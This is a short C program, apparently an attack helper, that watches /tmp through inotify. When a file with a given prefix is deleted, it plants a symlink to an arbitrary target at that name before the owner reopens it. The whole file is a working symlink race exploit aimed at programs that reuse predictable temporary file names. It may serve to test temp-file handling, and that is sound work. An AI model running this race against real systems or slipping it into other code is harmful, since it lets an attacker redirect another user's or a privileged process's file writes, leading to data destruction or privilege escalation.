/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* recreate PREFIX TARGET: waits for /tmp/PREFIX* to be removed, and puts a link to TARGET there
 * before its owner opens the name again. */
#include "attack.h"

int main(int argc, char **argv)
{
	int fd = watcher();
	const struct inotify_event *event;

	if (argc != 3)
		return 2;
	watch(fd, "/tmp", IN_DELETE);
	lie_in_wait();
	while ((event = next_event(fd)) != NULL) {
		char name[PATH_MAX];

		if (!begins(event->name, argv[1]))
			continue;
		snprintf(name, sizeof name, "/tmp/%s", event->name);
		if (symlink(argv[2], name) != 0)
			perror(name);
	}
	return 0;
}
